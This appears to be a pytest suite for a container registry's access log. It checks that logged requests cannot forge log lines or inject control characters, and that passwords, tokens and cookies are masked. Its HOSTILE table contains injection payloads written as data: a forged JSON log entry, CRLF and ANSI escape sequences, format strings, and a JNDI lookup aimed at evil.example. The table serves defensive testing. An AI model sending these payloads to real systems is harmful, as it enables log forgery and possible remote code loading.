"""What a client sends is told in the log, and never as more than text; what is secret is not told."""

import base64
import json
import re
import time
import uuid
from typing import Any

import pytest

from tests.api.corpus import NAMES, TAGS
from tests.hostile.attacking import Line, raw
from tests.hostile.conftest import LAYER
from tests.live.servers import Live
from tests.live.wire import wire

MARKER = "/v2/?n=marker-"
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]")
SECRETS = ("hunter2-in-basic", "hunter2-in-bearer", "hunter2-in-query", "hunter2-in-cookie", "hunter2-in-url")


def entries(line: Line, live: Live) -> list[dict[str, Any]]:
    """Every line of the access log until now; each is one JSON object, and no other line begins as one."""
    marker = f"{MARKER}{uuid.uuid4()}"
    assert line.ask("GET", marker).status == 200
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:  # lines are written some milliseconds after their answers
        whole, _, _ = live.said().rpartition("\n")  # the last one may still be half there
        found = [json.loads(text) for text in whole.splitlines() if text.startswith("{")]
        if any(entry["target"] == marker for entry in found):
            return [entry for entry in found if not entry["target"].startswith(MARKER)]
        time.sleep(0.02)
    raise AssertionError("the log does not go on")


FORGED = '{"time": "2020-01-01T00:00:00.000+00:00", "status": 200, "who": "root"}'
HOSTILE = {
    "a line of its own": f"a%0a{FORGED}".replace(" ", "%20").replace('"', "%22"),
    "CR and LF": "a%0d%0aINFO%20all%20is%20well",
    "ANSI": "a%1b%5b2J%1b%5b31m",
    "C1": "a%c2%9b2J",
    "backspaces": "a%08%08%08%08",
    "NUL": "a%00b",
    "a line separator": "a%e2%80%a8b",
    "right to left": "a%e2%80%aeb",
    "quotes": "a%22,%20%22status%22:%20200,%20%22x%22:%20%22",
    "a format": "%25s%25n%25(name)s{0}{request}",
    "a lookup": "$%7bjndi:ldap://evil.example/%7d",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_t29_no_text_becomes_a_line_or_moves_a_cursor(line: Line, live: Live, text: str) -> None:
    before = len(entries(line, live))
    targets = (
        f"/v2/{text}/tags/list",
        f"/v2/base/manifests/{text}",
        f"/v2/base/tags/list?n={text}",
        f"/{text}",
    )
    for target in targets:
        assert line.ask("GET", target, headers={"User-Agent": text, "X": text}).status in (400, 404)
        line.ask("PUT", f"/v2/base/blobs/uploads/{text}?digest={text}", LAYER)
    said = entries(line, live)[before:]
    assert [entry["target"] for entry in said if entry["method"] == "GET"] == list(targets)
    assert all(entry["status"] >= 400 and "who" not in entry for entry in said)
    assert not CONTROL.search(live.said())


@pytest.mark.parametrize("byte", ["\x1b[2J", "\x07", "\x80", "\xff", "é", "\u2028", "\x9b"])
def test_t29_raw_bytes_are_escaped(live: Live, line: Line, byte: str) -> None:
    for sent in (
        raw("GET", f"/v2/{byte}/tags/list"),
        raw("GET", f"/v2/?{byte}"),
        raw("GET", "/v2/base/tags/list", headers={"User-Agent": f"x{byte}y"}),
    ):
        with wire(live.host) as connection:
            connection.send(sent)
            assert connection.answer().status in (200, 400)
    entries(line, live)
    assert not CONTROL.search(live.said())
    assert live.said().isascii()


def test_t29_no_secret_is_told(line: Line, live: Live) -> None:
    basic = base64.b64encode(f"alice:{SECRETS[0]}".encode()).decode()
    for target, headers in (
        ("/v2/", {"Authorization": f"Basic {basic}"}),
        (
            "/v2/base/manifests/none",
            {"Authorization": f"Basic {basic}", "Proxy-Authorization": f"Basic {basic}"},
        ),
        ("/v2/base/tags/list?n=x", {"Authorization": f"Bearer {SECRETS[1]}"}),
        ("/v2/base/tags/list?n=x", {"Authorization": SECRETS[1]}),
        (f"/v2/base/blobs/uploads/x?_state={SECRETS[2]}&digest=x", {}),
        (f"/token?account=alice&service=x&password={SECRETS[2]}", {}),
        (f"/v2/?access_token={SECRETS[2]}", {"Cookie": f"session={SECRETS[3]}"}),
        (
            f"/v2/none?token={SECRETS[2]}",
            {"X-Registry-Auth": SECRETS[3], "Referer": f"http://x/?{SECRETS[3]}"},
        ),
        (f"http://alice:{SECRETS[4]}@registry.test/v2/none/tags/list", {}),
        (f"http://alice:{SECRETS[4]}@registry.test/v2/", {}),
    ):
        for method in ("GET", "POST", "PATCH", "HEAD"):
            line.ask(method, target, headers=headers)
    form = f"grant_type=password&username=alice&password={SECRETS[2]}&service=x".encode()
    line.ask("POST", "/token", form, {"Content-Type": "application/x-www-form-urlencoded"})
    entries(line, live)
    said = live.said()
    assert basic not in said
    assert [secret for secret in SECRETS if secret in said] == []
    assert "_state=***" in said


def test_t29_every_answer_has_its_line_and_its_id(line: Line, live: Live) -> None:
    answers = [line.ask("GET", f"/v2/{name}/tags/list") for name in (*NAMES[:30], *TAGS[:20])]
    told = {entry["id"]: entry for entry in entries(line, live)}
    for answer in answers:
        if "x-request-id" in answer.headers:
            assert told[answer.headers["x-request-id"]]["status"] == answer.status
